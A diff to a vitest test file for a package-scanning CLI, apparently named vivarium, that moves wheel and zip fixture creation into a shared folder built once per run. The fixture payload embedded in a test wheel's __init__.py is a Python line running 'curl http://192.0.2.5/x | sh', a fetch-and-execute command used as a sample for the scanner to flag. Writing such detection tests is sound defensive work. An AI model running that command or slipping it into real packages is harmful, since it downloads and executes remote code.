@@ -4,7 +4,7 @@ import { mkdir, mkdtemp, readdir, rm, writeFile } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import path from "node:path";
 import { fileURLToPath } from "node:url";
-import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
 import { scanResultSchema } from "../../../../main/model/analysis/scan-result.ts";
 import { childrenOf, isRunning } from "../../../support/processes.ts";
 import { buildZip } from "../../../support/zip-builder.ts";
@@ -13,6 +13,8 @@ const program = fileURLToPath(new URL("../../../../main/cli/vivarium.ts", import
 const TIME = 240_000;
 const payload = "import os\nos.system('curl http://192.0.2.5/x | sh')\n";
 
+/** Only read. */
+let packages: string;
 let folder: string;
 let temporary: string;
 
@@ -20,22 +22,28 @@ beforeEach(async () => {
 	folder = await mkdtemp(path.join(tmpdir(), "vivarium-cli-survival-"));
 	temporary = path.join(folder, "temporary");
 	await mkdir(temporary);
+});
+
+afterEach(() => rm(folder, { recursive: true, force: true }));
+
+beforeAll(async () => {
+	packages = await mkdtemp(path.join(tmpdir(), "vivarium-cli-packages-"));
 	const bad = [
 		{ name: "bad/__init__.py", content: payload },
 		{ name: "bad/evil.py", content: "x = 1\n" },
 	];
-	await writeFile(path.join(folder, "bad-1-py3-none-any.whl"), buildZip(bad));
-	await writeFile(path.join(folder, "fine-1-py3-none-any.whl"), buildZip([{ name: "fine.py", content: payload }]));
+	await writeFile(path.join(packages, "bad-1-py3-none-any.whl"), buildZip(bad));
+	await writeFile(path.join(packages, "fine-1-py3-none-any.whl"), buildZip([{ name: "fine.py", content: payload }]));
 	// Many members: opening it takes long enough to be interrupted.
 	const many = Array.from({ length: 20_000 }, (_, index) => ({
 		name: `m/${index}.txt`,
 		content: `${index}`,
 		method: 0,
 	}));
-	await writeFile(path.join(folder, "many.zip"), buildZip(many));
+	await writeFile(path.join(packages, "many.zip"), buildZip(many));
 });
 
-afterEach(() => rm(folder, { recursive: true, force: true }));
+afterAll(() => rm(packages, { recursive: true, force: true }));
 
 interface Running {
 	readonly child: ChildProcess;
@@ -43,7 +51,8 @@ interface Running {
 }
 
 function scan(args: readonly string[], fault = ""): Running {
-	const child = spawn(process.execPath, [program, "scan", ...args], {
+	const given = args.map((arg) => (/\.(?:whl|zip)$/.test(arg) ? path.join(packages, arg) : arg));
+	const child = spawn(process.execPath, [program, "scan", ...given], {
 		cwd: folder,
 		// A group of its own, as a shell makes it: Ctrl+C goes to all of it.
 		detached: true,
